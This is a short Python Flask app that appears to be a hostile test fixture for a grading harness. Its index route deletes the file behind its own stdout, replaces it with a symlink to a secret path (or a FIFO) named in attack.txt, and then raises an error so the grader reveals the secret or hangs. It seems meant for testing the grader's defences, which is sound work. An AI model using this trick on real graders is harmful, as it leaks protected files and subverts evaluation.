"""Swaps the file its output goes to for a link to a secret (or a FIFO), then fails, hoping the grader
shows the secret as "printed" (or hangs reading the FIFO)."""
import os
from pathlib import Path

from flask import Flask

app = Flask(__name__)
HERE = Path(__file__).parent


@app.get("/")
def index():
    output = os.readlink("/proc/self/fd/1")
    os.unlink(output)
    attack = (HERE / "attack.txt").read_text().split()
    if attack[0] == "link":
        os.symlink(attack[1], output)
    else:
        os.mkfifo(output)
    raise RuntimeError("look at what I printed")
